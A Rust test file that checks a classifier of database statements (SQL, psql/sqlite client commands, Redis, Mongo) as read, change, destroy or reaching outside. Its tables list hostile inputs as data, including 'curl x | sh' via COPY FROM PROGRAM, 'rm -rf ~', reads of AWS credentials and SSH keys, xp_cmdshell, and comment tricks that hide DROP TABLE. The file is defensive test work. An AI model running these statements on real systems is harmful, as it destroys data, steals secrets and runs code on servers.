//! The SQL judge's tables: each family of statements an attacker who read the judge would
//! try, with what it does.

use super::*;

#[test]
fn statements_are_judged_by_what_they_do() {
    use Sql::*;
    for (text, want) in [
        ("SELECT * FROM users", Read),
        ("select 1; select 2", Read),
        ("SELECT load_extension('/tmp/x.so')", Outside),
        (
            "select writefile('.claude/settings.local.json', 'x')",
            Outside,
        ),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            Destroy,
        ),
        ("SELECT * FROM t INTO OUTFILE '/tmp/x'", Outside),
        ("DROP/**/TABLE users", Destroy),
        ("DR/**/OP TABLE users", Unknown),
        ("drop\ttable users", Destroy),
        ("-- a note\nDELETE FROM users", Destroy),
        ("/* x */ truncate t", Destroy),
        ("UPDATE users SET admin = true", Destroy),
        ("UPDATE users SET admin = true WHERE id = 1", Change),
        ("INSERT INTO t VALUES (1)", Change),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Destroy,
        ),
        ("WITH x AS (SELECT 1) SELECT * FROM x", Read),
        ("select 'drop table x'", Read),
        ("COPY t TO '/tmp/out.csv'", Outside),
        ("COPY t FROM PROGRAM 'curl x | sh'", Outside),
        ("\\! rm -rf ~", Outside),
        ("\\o /tmp/out", Outside),
        ("\\dt", Read),
        (".tables", Read),
        (".shell rm -rf ~", Outside),
        ("ATTACH DATABASE '/tmp/x.db' AS x", Outside),
        ("FLUSHALL", Destroy),
        ("flushdb", Destroy),
        ("GET key", Read),
        ("KEYS *", Read),
        ("EVAL \"return 1\" 0", Destroy),
        ("CONFIG SET dir /tmp", Destroy),
        ("db.users.drop()", Destroy),
        ("db.dropDatabase()", Destroy),
        ("db.users.find({})", Read),
        ("EXPLAIN ANALYZE DELETE FROM t", Destroy),
        ("EXPLAIN SELECT 1", Read),
        ("PRAGMA table_info(t)", Read),
        ("PRAGMA tables", Read),
        ("SHOW TABLES", Read),
        (
            "select * from read_csv('/home/dev/.aws/credentials')",
            Outside,
        ),
        ("ALTER TABLE t DROP COLUMN c", Destroy),
        ("ALTER TABLE t ADD COLUMN c int", Change),
    ] {
        assert_eq!(judge(text), want, "{text}");
    }
}

#[test]
fn each_verdict_is_one_act_whoever_is_given_the_statement() {
    use super::super::pack::schema::Act;
    for (text, act, rule) in [
        ("SELECT 1", Act::DatabaseRead, "database-read"),
        ("INSERT INTO t VALUES (1)", Act::DatabaseChange, "database"),
        ("FLUSHDB", Act::DatabaseDestroy, "database-destructive"),
        ("DROP TABLE t", Act::DatabaseDestroy, "database-destructive"),
        ("\\! sh", Act::ShellUnknownCode, "database-outside"),
    ] {
        for who in ["redis-cli", "redis query"] {
            let (a, id, explain) = super::act(judge(text), who);
            assert_eq!((a, id), (act, rule), "{text} by {who}");
            assert!(explain.starts_with(who), "{explain}");
        }
    }
}

#[test]
fn looks_like_table() {
    for (t, want) in [
        ("SELECT 1", true),
        ("FLUSHALL", true),
        ("\\dt", true),
        ("hello world", false),
        ("db.users.find()", true),
    ] {
        assert_eq!(looks_like(t), want, "{t}");
    }
}

/// Checks a table of texts against what they do.
fn table(rows: &[(&str, Sql)]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter(|(t, want)| judge(t) != *want)
        .map(|(t, want)| format!("{t:?}: {:?}, expected {want:?}", judge(t)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn functions_that_reach_outside_are_found_however_they_are_called() {
    use Sql::*;
    table(&[
        ("SELECT load_extension('/tmp/x.so')", Outside),
        ("select LOAD_EXTENSION ('/tmp/x.so')", Outside),
        ("SELECT load_extension/**/('/tmp/x.so')", Outside),
        ("SELECT \"load_extension\"('/tmp/x.so')", Outside),
        ("SELECT \"LOAD_EXTENSION\"('/tmp/x.so')", Outside),
        ("SELECT [load_extension]('/tmp/x.so')", Outside),
        ("SELECT `load_extension`('/tmp/x.so')", Outside),
        (
            "SELECT 1 WHERE load_extension('/tmp/x.so') IS NULL",
            Outside,
        ),
        (
            "SELECT * FROM t WHERE id IN (SELECT writefile('x', 'y'))",
            Outside,
        ),
        (
            "WITH w AS (SELECT writefile('.claude/settings.local.json', '{}')) SELECT 1",
            Outside,
        ),
        ("SELECT readfile('/home/dev/.aws/credentials')", Outside),
        ("select hex(readfile('/home/dev/.ssh/id_rsa'))", Outside),
        ("SELECT * FROM fsdir('/home/dev')", Outside),
        ("SELECT pg_read_file('/etc/passwd')", Outside),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", Outside),
        ("SELECT pg_read_binary_file('/etc/passwd')", Outside),
        ("SELECT pg_ls_dir('/')", Outside),
        ("SELECT lo_import('/etc/passwd')", Outside),
        ("SELECT lo_export(1234, '/tmp/x')", Outside),
        (
            "SELECT * FROM dblink('host=x.example', 'select 1') AS t(a int)",
            Outside,
        ),
        ("SELECT LOAD_FILE('/etc/passwd')", Outside),
        ("SELECT sys_exec('id')", Outside),
        (
            "SELECT * FROM OPENROWSET(BULK 'C:\\x', SINGLE_CLOB) AS x",
            Outside,
        ),
        (
            "SELECT * FROM read_csv('/home/dev/.aws/credentials')",
            Outside,
        ),
        ("SELECT * FROM '/home/dev/.aws/credentials'", Outside),
        ("FROM 'data.csv'", Outside),
        ("SELECT * FROM t JOIN 'other.parquet' USING (id)", Outside),
        ("SELECT * FROM file('/etc/passwd', 'LineAsString')", Outside),
        (
            "SELECT * FROM executable('x.sh', 'TSV', 'a String')",
            Outside,
        ),
    ]);
}

#[test]
fn statements_that_write_files_load_code_or_reach_other_servers_are_outside() {
    use Sql::*;
    table(&[
        ("SELECT * FROM users INTO OUTFILE '/tmp/x'", Outside),
        (
            "SELECT 0x00 INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'",
            Outside,
        ),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Outside),
        (
            "LOAD DATA LOCAL INFILE '/home/dev/.aws/credentials' INTO TABLE t",
            Outside,
        ),
        ("COPY t TO PROGRAM 'sh -c id'", Outside),
        ("COPY t FROM PROGRAM 'id'", Outside),
        ("COPY (SELECT 1) TO '/tmp/x'", Outside),
        ("copy t to '/home/dev/.bashrc'", Outside),
        ("COPY t TO 'out.parquet' (FORMAT parquet)", Outside),
        ("LOAD '/tmp/x.so'", Outside),
        ("CREATE EXTENSION plpython3u", Outside),
        (
            "CREATE FUNCTION f() RETURNS void AS '/tmp/x.so', 'f' LANGUAGE C",
            Outside,
        ),
        (
            "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u",
            Outside,
        ),
        (
            "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
            Outside,
        ),
        ("INSTALL PLUGIN x SONAME 'x.so'", Outside),
        ("INSTALL httpfs", Outside),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x.example')",
            Outside,
        ),
        ("CREATE FOREIGN TABLE f (a int) SERVER s", Outside),
        ("ATTACH DATABASE '/tmp/x.db' AS x", Outside),
        ("VACUUM INTO '/tmp/copy.db'", Outside),
        ("EXPORT DATABASE '/tmp/dump'", Outside),
        ("BULK INSERT t FROM 'C:\\x.csv'", Outside),
        ("EXEC xp_cmdshell 'dir'", Outside),
        ("EXEC master..xp_cmdshell 'dir'", Outside),
        ("xp_cmdshell 'dir'", Outside),
        (
            "INSERT INTO t EXEC xp_dirtree '\\\\x.example\\share'",
            Outside,
        ),
        ("EXEC sp_OACreate 'WScript.Shell', @o OUT", Outside),
        (
            "CREATE OPERATOR ### (PROCEDURE = pg_read_file, LEFTARG = text)",
            Outside,
        ),
    ]);
}

#[test]
fn functions_and_statements_that_end_sessions_or_change_the_server_destroy() {
    use Sql::*;
    table(&[
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            Destroy,
        ),
        ("select PG_CANCEL_BACKEND(123)", Destroy),
        ("SELECT pg_reload_conf()", Destroy),
        ("SELECT set_config('log_statement', 'none', false)", Destroy),
        ("SELECT lo_unlink(1234)", Destroy),
        ("ALTER SYSTEM SET log_statement = 'none'", Destroy),
        ("alter system reset all", Destroy),
        ("KILL 12", Destroy),
        ("KILL QUERY 12", Destroy),
        ("SHUTDOWN", Destroy),
        ("SET GLOBAL general_log_file = '/var/www/x.php'", Destroy),
        ("SET PERSIST max_connections = 1", Destroy),
        ("SET @@global.read_only = 0", Destroy),
        ("RESET MASTER", Destroy),
        ("PURGE BINARY LOGS BEFORE NOW()", Destroy),
        ("FLUSH PRIVILEGES", Destroy),
        ("EXEC sp_configure 'xp_cmdshell', 1", Destroy),
        ("REVOKE ALL ON t FROM bob", Destroy),
    ]);
}

#[test]
fn comments_spacing_and_case_inside_keywords_are_read_as_the_server_reads_them() {
    use Sql::*;
    table(&[
        ("DROP/**/TABLE users", Destroy),
        ("DROP--x\nTABLE users", Destroy),
        ("DROP#x\nTABLE users", Destroy),
        ("drop\ttable users", Destroy),
        ("dRoP tAbLe users", Destroy),
        ("-- a note\nDELETE FROM users", Destroy),
        ("/* x */ truncate t", Destroy),
        ("/* a /* nested */ comment */ DELETE FROM t", Destroy),
        // MySQL runs what a versioned comment holds.
        ("/*!50000 DROP*/ TABLE t", Destroy),
        ("/*!DROP TABLE t*/", Destroy),
        ("/*M!100100 DROP TABLE t */", Destroy),
        ("SELECT 1 /*!50000 ; DROP TABLE t */", Destroy),
        // MySQL's `--` needs a blank: `1--1` is arithmetic, the DROP runs.
        ("SELECT 1 --1; DROP TABLE t", Destroy),
        // PostgreSQL nests comments: the quote is inside one, the DROP is not.
        ("/* /* */ '*/ ; DROP TABLE t; --'", Destroy),
        // MySQL's `#` comment hides the quote that would open a string.
        ("SELECT 1 # '\n; DROP TABLE t; -- '", Destroy),
        // A keyword cut in two is no keyword; a string is data.
        ("DR/**/OP TABLE users", Unknown),
        ("SELECT 'DR' || 'OP TABLE users'", Read),
        ("select 'drop table x'", Read),
        ("SELECT \"drop\" FROM t", Read),
    ]);
}

#[test]
fn quotes_are_read_as_each_server_reads_them() {
    use Sql::*;
    table(&[
        // MySQL escapes the quote with `\`: the DROP is outside the string.
        ("SELECT 'a\\''; DROP TABLE t; -- '", Destroy),
        ("SELECT \"a\\\"\"; DROP TABLE t; -- \"", Destroy),
        // PostgreSQL's E'…' escapes too.
        ("SELECT E'a\\''; DROP TABLE t; -- '", Destroy),
        // SQLite and SQL Server quote names in brackets.
        ("SELECT [x'] ; DROP TABLE t; --']", Destroy),
        // Dollar quotes are PostgreSQL's; elsewhere `$$` quotes nothing.
        ("SELECT $$ ; DROP TABLE t; $$", Destroy),
        ("SELECT $tag$ drop table t $tag$", Read),
        ("SELECT 'it''s'; DELETE FROM t", Destroy),
        ("SELECT 'C:\\path\\' AS p", Read),
    ]);
}

#[test]
fn every_statement_of_a_batch_counts() {
    use Sql::*;
    table(&[
        ("SELECT 1; DROP TABLE t", Destroy),
        ("select 1;\nselect 2;\ndelete from t", Destroy),
        ("SELECT 1;;; TRUNCATE t", Destroy),
        ("SELECT 1; SELECT pg_read_file('/etc/passwd')", Outside),
        ("select 1; select 2", Read),
    ]);
}

#[test]
fn statements_inside_statements_are_judged() {
    use Sql::*;
    table(&[
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Destroy,
        ),
        (
            "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u",
            Destroy,
        ),
        (
            "WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u",
            Change,
        ),
        (
            "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
            Change,
        ),
        ("WITH x AS (SELECT 1) DELETE FROM t", Destroy),
        ("WITH x AS (SELECT 1) UPDATE t SET a = 1", Destroy),
        ("WITH RECURSIVE x AS (SELECT 1) SELECT * FROM x", Read),
        (
            "WITH x AS MATERIALIZED ((DELETE FROM t RETURNING *)) SELECT 1",
            Destroy,
        ),
        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", Destroy),
        ("SELECT * INTO newtable FROM t", Change),
        ("EXPLAIN ANALYZE DELETE FROM t", Destroy),
        ("EXPLAIN (ANALYZE) DELETE FROM t", Destroy),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", Destroy),
        ("EXPLAIN (ANALYZE true) UPDATE t SET a = 1", Destroy),
        ("explain analyze verbose truncate t", Destroy),
        ("DESCRIBE ANALYZE DELETE FROM t", Destroy),
        ("EXPLAIN DELETE FROM t", Read),
        ("EXPLAIN FORMAT=JSON SELECT 1", Read),
        ("EXPLAIN QUERY PLAN SELECT * FROM t", Read),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM users; SELECT 1 $$ LANGUAGE sql",
            Destroy,
        ),
        (
            "CREATE FUNCTION f() RETURNS int AS 'DELETE FROM users; SELECT 1' LANGUAGE sql",
            Destroy,
        ),
        (
            "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$ LANGUAGE plpgsql",
            Unknown,
        ),
        (
            "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$ LANGUAGE plpgsql",
            Destroy,
        ),
        (
            "CREATE FUNCTION f() RETURNS void AS $$ BEGIN PERFORM pg_terminate_backend(1); END $$ LANGUAGE plpgsql",
            Destroy,
        ),
        (
            "CREATE FUNCTION f() RETURNS SETOF t AS $$ BEGIN RETURN QUERY SELECT * FROM t; END $$ LANGUAGE plpgsql",
            Change,
        ),
        ("CREATE PROCEDURE p() BEGIN DELETE FROM t; END", Destroy),
        (
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u",
            Destroy,
        ),
        ("CREATE OR REPLACE TABLE t AS SELECT 1", Destroy),
    ]);
}

#[test]
fn statements_oath_cannot_read_are_not_understood() {
    use Sql::*;
    table(&[
        ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", Unknown),
        ("DO $$ BEGIN PERFORM 1; END $$", Unknown),
        ("CALL do_it()", Unknown),
        ("EXEC do_it", Unknown),
        ("EXECUTE p", Unknown),
        ("EXEC('DR' + 'OP TABLE t')", Unknown),
        ("EXEC sp_executesql N'DROP TABLE t'", Unknown),
        ("EXECUTE IMMEDIATE 'DR' || 'OP TABLE t'", Unknown),
        (
            "SET @q = 'DROP TABLE t'; PREPARE s FROM @q; EXECUTE s",
            Unknown,
        ),
        (
            "SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')",
            Unknown,
        ),
        (
            "SELECT cron.schedule('* * * * *', 'DELETE FROM t')",
            Unknown,
        ),
        // psql puts a variable's value in before the text is sent.
        (":x TABLE t", Unknown),
        ("SELECT :'x'", Unknown),
        ("SELECT * FROM t WHERE id = $(id)", Unknown),
        ("FROBNICATE t", Unknown),
        // Prepared in the same text, it is what it prepares.
        ("PREPARE p AS DELETE FROM t; EXECUTE p", Destroy),
        ("PREPARE s FROM 'DROP TABLE t'; EXECUTE s", Destroy),
        ("PREPARE s FROM 'SELECT 1'; EXECUTE s", Read),
        ("PREPARE p AS SELECT 1; EXECUTE p", Read),
        ("EXECUTE IMMEDIATE 'DROP TABLE t'", Destroy),
        ("EXEC sp_help 't'", Read),
    ]);
}

#[test]
fn clients_own_commands_are_judged_wherever_they_stand() {
    use Sql::*;
    table(&[
        ("\\! rm -rf ~", Outside),
        ("\\o /tmp/out", Outside),
        ("select 1 \\g /tmp/out", Outside),
        ("select 1 \\g |sh", Outside),
        ("select 1 \\gx", Read),
        ("\\copy t to '/tmp/x.csv'", Outside),
        ("\\copy t to stdout", Read),
        ("\\copy t from program 'id'", Outside),
        ("\\i /tmp/x.sql", Unknown),
        (
            "SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec",
            Unknown,
        ),
        ("\\lo_unlink 1234", Destroy),
        ("\\echo hi \\\\ DROP TABLE t", Destroy),
        ("\\dt", Read),
        ("\\d+ users", Read),
        ("\\frobnicate", Unknown),
        ("select 1 \\! id", Outside),
        ("\\. /tmp/x.sql", Unknown),
        ("system id", Outside),
        ("source /tmp/x.sql", Unknown),
        ("pager sh -c 'id'", Outside),
        ("tee /tmp/x", Outside),
        (".tables", Read),
        (".schema users", Read),
        (".mode csv", Read),
        (".dump", Read),
        (".shell rm -rf ~", Outside),
        (".system id", Outside),
        (".load /tmp/x.so", Outside),
        (".output /tmp/x", Outside),
        (".once /tmp/x", Outside),
        (".archive -x", Outside),
        (".read '|sh x'", Outside),
        (".frobnicate", Unknown),
        ("select 1;\n.shell id", Outside),
        ("select 1;\n  .load /tmp/x", Outside),
        (":!! dir", Outside),
        ("!! dir", Outside),
        (":r /tmp/x.sql", Unknown),
        (":out /tmp/x", Outside),
        (":setvar x 1", Read),
    ]);
}

#[test]
fn ordinary_statements_keep_their_verdict() {
    use Sql::*;
    table(&[
        ("SELECT * FROM users", Read),
        (
            "SELECT u.id, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY 1",
            Read,
        ),
        ("select * from \"User\" where \"email\" = 'a@b.c'", Read),
        (
            "SELECT trim(both 'x' FROM 'xabcx'), substring('abc' FROM 2)",
            Read,
        ),
        ("SELECT '2024-01-01'::date, now() - interval '1 day'", Read),
        ("SELECT * FROM t WHERE a IN (SELECT b FROM u)", Read),
        ("SELECT * FROM t FOR UPDATE", Read),
        ("SELECT 1 -- a note", Read),
        ("SHOW TABLES", Read),
        ("TABLE users", Read),
        ("VALUES (1), (2)", Read),
        ("EXPLAIN SELECT 1", Read),
        ("PRAGMA table_info(users)", Read),
        ("PRAGMA main.index_list('users')", Read),
        ("PRAGMA tables", Read),
        ("PRAGMA journal_mode = WAL", Change),
        ("PRAGMA journal_mode(WAL)", Change),
        ("COPY t TO STDOUT WITH CSV HEADER", Read),
        ("COPY (SELECT * FROM t) TO STDOUT", Read),
        ("COPY t FROM STDIN", Change),
        ("INSERT INTO t VALUES (1)", Change),
        (
            "INSERT INTO t (a) SELECT a FROM u ON CONFLICT (a) DO UPDATE SET a = excluded.a",
            Change,
        ),
        ("INSERT OVERWRITE TABLE t SELECT * FROM u", Destroy),
        (
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
            Destroy,
        ),
        ("UPDATE users SET admin = true", Destroy),
        ("UPDATE users SET admin = true WHERE id = 1", Change),
        ("UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)", Destroy),
        (
            "CREATE TABLE t (id int REFERENCES u (id) ON DELETE CASCADE, url text, file text)",
            Change,
        ),
        ("CREATE INDEX i ON t (a)", Change),
        (
            "CREATE TRIGGER tr BEFORE DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()",
            Change,
        ),
        ("ALTER TABLE t ADD COLUMN c int", Change),
        ("ALTER TABLE t DROP COLUMN c", Destroy),
        ("ALTER TABLE t DISCARD TABLESPACE", Destroy),
        ("GRANT SELECT, DELETE ON t TO bob", Change),
        ("BEGIN; INSERT INTO t VALUES (1); COMMIT", Change),
        ("SET search_path = app", Change),
        ("DISCARD ALL", Change),
        ("VACUUM ANALYZE t", Change),
        ("ATTACH 'x.db' AS x; SELECT 1", Outside),
        ("DETACH x", Change),
        ("INSERT INTO url(a) VALUES (1)", Change),
        ("SELECT xp_points FROM players", Read),
        ("SELECT * FROM t WHERE name GLOB 'a*'", Read),
    ]);
}

#[test]
fn redis_and_mongo_commands_are_judged_by_what_they_do() {
    use Sql::*;
    table(&[
        ("FLUSHALL", Destroy),
        ("flushdb async", Destroy),
        ("PING\nFLUSHALL", Destroy),
        ("GET key", Read),
        ("KEYS *", Read),
        ("CONFIG GET dir", Read),
        ("CONFIG SET dir /var/www", Destroy),
        ("CLIENT LIST", Read),
        ("CLIENT KILL ID 1", Destroy),
        ("EVAL \"return 1\" 0", Destroy),
        ("HSET k f v", Change),
        ("db.users.drop()", Destroy),
        ("db.dropDatabase()", Destroy),
        ("db.getSiblingDB('prod').dropDatabase()", Destroy),
        ("db.getCollection('users').drop()", Destroy),
        ("db[\"users\"].deleteMany({})", Destroy),
        ("db.users['drop']()", Unknown),
        ("db.users.\\u0064rop()", Unknown),
        ("db.users.bulkWrite([{deleteMany: {filter: {}}}])", Destroy),
        ("db.runCommand({dropDatabase: 1})", Destroy),
        ("db.adminCommand({setParameter: 1})", Unknown),
        ("db.users.find({})", Read),
        ("db.users.find({name: 'drop'}).sort({a: 1}).limit(5)", Read),
        ("db.users.countDocuments({})", Read),
        ("db.users.aggregate([{$match: {}}, {$out: 'x'}])", Change),
        ("db.users.updateMany({}, {$set: {a: 1}})", Change),
        ("db.users.insertOne({a: 1})", Change),
    ]);
}

#[test]
fn deep_or_long_texts_are_judged_in_bounded_time() {
    let started = std::time::Instant::now();
    // Parentheses a hundred thousand deep, statements inside statements as deep as the text
    // goes, routines inside routines, many statements.
    let parens = format!("SELECT {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    assert_eq!(judge(&parens), Sql::Read);
    let selects = format!("{}1", "SELECT (".repeat(20_000));
    assert!(judge(&selects) >= Sql::Read);
    let mut routine = "DELETE FROM t".to_owned();
    for i in 0..12 {
        routine =
            format!("CREATE FUNCTION f{i}() RETURNS int AS $b{i}$ {routine} $b{i}$ LANGUAGE sql");
    }
    assert!(judge(&routine) >= Sql::Unknown, "{:?}", judge(&routine));
    let many = "SELECT 1; ".repeat(50_000);
    assert_eq!(judge(&many), Sql::Read);
    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 20, "took {elapsed:?}");
}
